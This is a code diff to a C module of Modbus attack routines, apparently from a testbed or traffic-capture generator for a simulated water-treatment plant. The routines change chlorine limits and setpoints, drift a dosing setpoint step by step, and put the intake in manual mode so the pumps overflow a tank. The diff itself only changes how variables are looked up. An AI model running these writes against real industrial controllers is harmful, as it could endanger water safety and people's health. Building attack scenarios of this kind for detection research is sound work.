@@ -1,7 +1,7 @@
 /* Attacks that a correct Modbus stack can carry out. */
 #include <string.h>
 
-#include "pcaps/plant/scenario.h"
+#include "pcaps/plant/errand.h"
 #include "pcaps/plant/variables.h"
 
 #define QUICK_MS 400 /* silence is part of what a scan learns */
@@ -178,11 +178,18 @@ int attack_write(struct visit *v)
 	return ok ? DONE : FAILED;
 }
 
-static bool set(struct visit *v, struct link *l, enum variable_id id, double value)
+/* Function 6 to a register that is called so in this plant. */
+static bool set(struct visit *v, struct link *l, const char *name, double value)
 {
-	const struct variable *var = &variables[id];
+	int id = variable_find(name);
+	const struct variable *var = &variables[id < 0 ? 0 : id];
 	uint16_t regs[2];
 	bool ok;
+
+	if (id < 0) {
+		complain("this plant has no variable %s", name);
+		return false;
+	}
 
 	variable_registers(var, value, regs);
 	ok = link_do(l, var->unit, MODBUS_FC_WRITE_SINGLE_REGISTER, var->addr, 1, regs);
@@ -201,9 +208,9 @@ int attack_setpoint(struct visit *v)
 		return FAILED;
 	ok = link_do(&l, 1, MODBUS_FC_READ_HOLDING_REGISTERS, 0, 8, NULL);
 	say(v, "function 3: registers 0 to 7 read");
-	ok &= set(v, &l, CL_HIGH_LIMIT, 500);
-	ok &= set(v, &l, CHLORINE_SP, 9);
-	ok &= set(v, &l, DOSE_MAX, 200);
+	ok &= set(v, &l, "CL_HIGH_LIMIT", 500);
+	ok &= set(v, &l, "CHLORINE_SP", 9);
+	ok &= set(v, &l, "DOSE_MAX", 200);
 	for (int i = 0; i < 8 && ok && clock_sleep_ms(1000); i++) {
 		uint32_t raw;
 		float chlorine;
@@ -240,14 +247,14 @@ int attack_flap(struct visit *v)
 int attack_drift(struct visit *v)
 {
 	struct link l;
-	double value = variables[CHLORINE_SP].start;
+	double value = 0.6;
 	bool ok = true;
 
 	if (!visit_open(v, &l, QUICK_MS))
 		return FAILED;
 	for (int i = 0; i < 30 && ok && clock_sleep_ms(1100); i++) {
 		value += 0.03;
-		ok = set(v, &l, CHLORINE_SP, value);
+		ok = set(v, &l, "CHLORINE_SP", value);
 	}
 	link_close(&l);
 	return ok ? DONE : FAILED;
@@ -262,16 +269,14 @@ int attack_overflow(struct visit *v)
 
 	if (!visit_open(v, &l, QUICK_MS))
 		return FAILED;
-	ok = set(v, &l, RAW_HH_LIMIT, 100);
-	ok &= set(v, &l, RAW_STOP, 100);
+	ok = set(v, &l, "RAW_HH_LIMIT", 100);
+	ok &= set(v, &l, "RAW_STOP", 100);
 	ok &= link_do(&l, 1, 5, 3, 1, off);
 	say(v, "function 5: PLC1_AUTO (coil 3) off, the intake is in manual");
 	ok &= link_do(&l, 1, 15, 0, 2, on);
 	say(v, "function 15: P101 and P102 (coils 0 and 1) on");
 	for (int i = 0; i < 40 && ok && level < 985 && clock_sleep_ms(1000); i++) {
-		ok = link_count(&l, 4,
-				modbus_read_input_registers(l.modbus, variables[RAW_LEVEL].addr, 1,
-							    &level));
+		ok = link_count(&l, 4, modbus_read_input_registers(l.modbus, 1, 1, &level));
 		if (i % 4 == 0 || level >= 950)
 			say(v, "function 4: RAW_LEVEL is %.1f %%", level / 10.0);
 	}
